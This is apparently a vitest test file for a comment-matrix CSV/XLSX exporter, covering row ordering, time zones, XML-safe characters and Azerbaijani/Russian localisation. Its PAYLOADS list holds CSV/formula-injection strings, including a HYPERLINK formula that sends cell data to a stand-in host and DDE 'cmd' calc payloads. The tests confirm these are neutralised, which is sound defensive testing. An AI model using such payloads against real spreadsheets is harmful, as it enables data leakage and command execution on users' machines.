import type { ProfileOutline } from '@roundtable/profile';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { author, thread, withStoredBody } from '../test/threadFixtures.ts';
import { commentMatrix } from './commentMatrix.ts';
import { commentMatrixCsv } from './commentMatrixCsv.ts';
import { commentMatrixXlsx } from './commentMatrixXlsx.ts';

const outline: ProfileOutline = {
  sections: [],
  domains: [
    {
      code: 1,
      title: "Migrants' rights",
      indicators: [
        { id: '1.2', title: 'Schooling for migrant children', status: 'agreed' },
        { id: '1.10', title: 'Anti-discrimination law', status: 'agreed' },
      ],
    },
    {
      code: 2,
      title: 'Whole-of-government approach',
      indicators: [{ id: '2.4', title: 'Strategy', status: 'agreed' }],
    },
  ],
};

const threads = [
  thread('t-late', '2.4', '2026-11-27T09:00:00.000Z', 'Strategy was renewed in 2025.'),
  thread('t-b', '1.10', '2026-11-27T08:00:00.000Z', 'Law 9 was amended.', {
    by: author('Leyla Məmmədova', 'Azərbaycan Dövlət Miqrasiya Xidməti'),
    quote: 'Law No. 9',
    proposedText: 'Law No. 9/2024',
    reply: {
      body: 'Согласны, см. статью 3.',
      by: author('Борис', 'Министерство труда'),
      at: '2026-11-27T10:30:00.000Z',
    },
    resolve: { outcome: 'accepted-with-changes', response: 'Corrigé, merci.', at: '2026-11-27T11:00:00.000Z' },
  }),
  thread('t-a', '1.2', '2026-11-27T12:00:00.000Z', 'Second on 1.2'),
  thread('t-first', '1.2', '2026-11-27T07:00:00.000Z', 'First on 1.2'),
];

describe('commentMatrix', () => {
  it('orders rows by the profile (domain, indicator in draft order, then time), replies after their comment', () => {
    const m = commentMatrix(threads, outline, 'UTC');
    expect(m.rows.map((r) => [r.indicatorId, r.entry, r.comment])).toEqual([
      ['1.2', 'Comment', 'First on 1.2'],
      ['1.2', 'Comment', 'Second on 1.2'],
      ['1.10', 'Comment', 'Law 9 was amended.'],
      ['1.10', 'Reply', 'Согласны, см. статью 3.'],
      ['2.4', 'Comment', 'Strategy was renewed in 2025.'],
    ]);
    expect(m.rows.map((r) => r.thread)).toEqual([1, 2, 3, 3, 4]);
    expect(m.rows[2]).toMatchObject({
      domain: "1. Migrants' rights",
      indicatorTitle: 'Anti-discrimination law',
      quote: 'Law No. 9',
      type: 'Factual correction',
      proposedWording: 'Law No. 9/2024',
      status: 'Resolved',
      outcome: 'Accepted with changes',
      response: 'Corrigé, merci.',
      resolvedBy: 'Fatou',
    });
    expect(m.rows[3]?.proposedWording).toBe('');
  });

  it("shows times in the consultation's time zone", () => {
    const m = commentMatrix(threads, outline, 'Asia/Baku');
    expect(m.rows[0]?.time).toBe('2026-11-27 11:00');
    expect(m.rows[2]?.resolvedAt).toBe('2026-11-27 15:00');
    expect(m.columns.find((c) => c.key === 'time')?.header).toBe('Time (Asia/Baku)');
  });
});

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
];

function injected(): ReturnType<typeof commentMatrix> {
  const list = PAYLOADS.map((p, i) => ({
    ...thread(`t${i}`, '1.2', `2026-11-27T0${i}:00:00.000Z`, 'x'),
    anchor: { start: 'AAAA', end: 'AAAA', quote: p },
  }));
  return commentMatrix(list, outline, 'UTC');
}

describe('commentMatrixCsv', () => {
  it('reads back with csv-parse: a header and one row per comment, UTF-8 names intact', () => {
    const csv = commentMatrixCsv(commentMatrix(threads, outline, 'UTC'));
    expect(csv.startsWith('\uFEFF"Domain","Indicator","Indicator title"')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(7);
    const records: string[][] = parse(csv, { bom: true });
    expect(records).toHaveLength(6);
    expect(records[0]?.[11]).toBe('Time (UTC)');
    expect(records[3]?.slice(9, 11)).toEqual(['Leyla Məmmədova', 'Azərbaycan Dövlət Miqrasiya Xidməti']);
    expect(records[4]?.slice(9, 11)).toEqual(['Борис', 'Министерство труда']);
    expect(records[3]?.[14]).toBe('Corrigé, merci.');
  });

  it('keeps a cell starting with =, +, -, @, tab, CR or a full-width = as text behind a quote', () => {
    const records: string[][] = parse(commentMatrixCsv(injected()), { bom: true, relax_quotes: true });
    expect(records.slice(1).map((r) => r[5])).toEqual(PAYLOADS.map((p) => `'${p}`));
    for (const row of records.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D]/);
  });
});

describe('commentMatrixXlsx', () => {
  async function read(bytes: Uint8Array): Promise<ExcelJS.Worksheet> {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes.buffer as ArrayBuffer);
    const sheet = workbook.getWorksheet('Comment matrix');
    if (sheet === undefined) throw new Error('no sheet');
    return sheet;
  }

  it('reads back with ExcelJS: styled frozen header, autofilter, widths, rows in profile order, UTF-8', async () => {
    const sheet = await read(await commentMatrixXlsx(commentMatrix(threads, outline, 'Europe/Paris')));
    const header = sheet.getRow(1);
    expect(header.getCell(1).value).toBe('Domain');
    expect(header.getCell(12).value).toBe('Time (Europe/Paris)');
    expect(header.font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    expect(sheet.getColumn(8).width).toBeGreaterThan(sheet.getColumn(4).width ?? 0);
    expect(sheet.rowCount).toBe(6);
    const column = (n: number) => [2, 3, 4, 5, 6].map((r) => sheet.getRow(r).getCell(n).value);
    expect(column(2)).toEqual(['1.2', '1.2', '1.10', '1.10', '2.4']);
    expect(column(10)).toEqual(['Amina', 'Amina', 'Leyla Məmmədova', 'Борис', 'Amina']);
    const time = sheet.getRow(2).getCell(12);
    expect(time.value).toEqual(new Date('2026-11-27T08:00:00.000Z'));
    expect(time.numFmt).toBe('yyyy-mm-dd hh:mm');
  });

  it('writes when a thread was resolved as a date cell too, empty while it is open', async () => {
    const sheet = await read(await commentMatrixXlsx(commentMatrix(threads, outline, 'Europe/Paris')));
    const header = sheet.getRow(1).values as unknown[];
    const column = header.indexOf('Resolved at (Europe/Paris)');
    expect(column).toBeGreaterThan(0);
    const cells = [2, 3, 4, 5, 6].map((r) => sheet.getRow(r).getCell(column));
    const resolved = cells.filter((cell) => cell.value !== null && cell.value !== '');
    expect(resolved.length).toBeGreaterThan(0);
    for (const cell of resolved) {
      expect(cell.value).toBeInstanceOf(Date);
      expect(cell.numFmt).toBe('yyyy-mm-dd hh:mm');
    }
    expect(cells.some((cell) => cell.value === null)).toBe(true);
  });

  it('opens when a comment holds characters XML may not hold (they become U+FFFD)', async () => {
    const t = withStoredBody(
      thread('t', '1.2', '2026-11-27T10:00:00.000Z', 'x'),
      'a\u0001b\u000Bc\uFFFEd\uD800e\u{1F600}',
    );
    const sheet = await read(await commentMatrixXlsx(commentMatrix([t], outline, 'UTC')));
    expect(sheet.getRow(2).getCell(8).value).toBe('a\uFFFDb\uFFFDc\uFFFDd\uFFFDe\u{1F600}');
  });

  it('writes text starting like a formula as a string cell with a leading quote, never a formula', async () => {
    const sheet = await read(await commentMatrixXlsx(injected()));
    for (let r = 2; r <= sheet.rowCount; r++) {
      const cell = sheet.getRow(r).getCell(6);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a carriage return back as a line feed: the cell still starts with the quote.
      expect(cell.value).toBe(`'${PAYLOADS[r - 2]?.replace('\r', '\n')}`);
    }
  });
});

describe('commentMatrix in the consultation’s language', () => {
  it('writes headers, entries, types, statuses, outcomes and the sheet name in Azerbaijani or Russian', () => {
    const az = commentMatrix(threads, outline, 'Asia/Baku', 'az');
    expect(az.title).toBe('Şərhlər cədvəli');
    expect(az.columns.map((c) => c.header).slice(0, 5)).toEqual([
      'Sahə',
      'Göstərici',
      'Göstəricinin adı',
      'Müzakirə',
      'Qeyd',
    ]);
    expect(az.columns.find((c) => c.key === 'time')?.header).toBe('Vaxt (Asia/Baku)');
    expect(az.rows[2]).toMatchObject({ entry: 'Şərh', type: 'Faktiki düzəliş', status: 'Həll edilib' });
    expect(az.rows[2]?.outcome).toBe('Dəyişikliklərlə qəbul edildi');
    expect(az.rows[3]?.entry).toBe('Cavab şərhi');
    const ru = commentMatrix(threads, outline, 'UTC', 'ru');
    expect(ru.rows[0]).toMatchObject({ entry: 'Комментарий', status: 'Открыт' });
    expect(ru.rows[2]?.outcome).toBe('Принято с изменениями');
  });

  it('names an indicator the draft no longer holds under its domain in the language, ordered 2.9 before 2.10', () => {
    const gone = [
      thread('t-10', '5.10', '2026-11-27T08:00:00.000Z', 'On 5.10'),
      thread('t-9', '5.9', '2026-11-27T09:00:00.000Z', 'On 5.9'),
    ];
    const ru = commentMatrix(gone, outline, 'UTC', 'ru');
    expect(ru.rows.map((r) => [r.indicatorId, r.domain])).toEqual([
      ['5.9', '5. Аспекты мобильности в кризисных ситуациях'],
      ['5.10', '5. Аспекты мобильности в кризисных ситуациях'],
    ]);
  });

  it('writes the same Azerbaijani and Cyrillic text into the CSV and the XLSX', async () => {
    const named = [
      thread('t-az', '1.2', '2026-11-27T08:00:00.000Z', 'İsmayıllı: ğöşüçı', {
        by: author('Əli Şükürov', 'İsmayıllı Rayon İcra Hakimiyyəti'),
        reply: { body: 'Ёлка', by: author('Юлия Ёлкина', 'Министерство труда'), at: '2026-11-27T09:00:00.000Z' },
      }),
    ];
    const m = commentMatrix(named, outline, 'UTC', 'az');
    const [header, ...rows]: string[][] = parse(commentMatrixCsv(m), { bom: true });
    expect(header?.[9]).toBe('Şəxs');
    expect(rows.map((r) => r.slice(7, 11))).toEqual([
      ['İsmayıllı: ğöşüçı', '', 'Əli Şükürov', 'İsmayıllı Rayon İcra Hakimiyyəti'],
      ['Ёлка', '', 'Юлия Ёлкина', 'Министерство труда'],
    ]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await commentMatrixXlsx(m)).buffer as ArrayBuffer);
    const sheet = workbook.getWorksheet('Şərhlər cədvəli');
    expect([2, 3].map((r) => sheet?.getRow(r).getCell(10).value)).toEqual(['Əli Şükürov', 'Юлия Ёлкина']);
    expect([1, 2, 3].map((r) => sheet?.getRow(r).getCell(10).font?.name)).toEqual(['Arial', 'Arial', 'Arial']);
  });
});
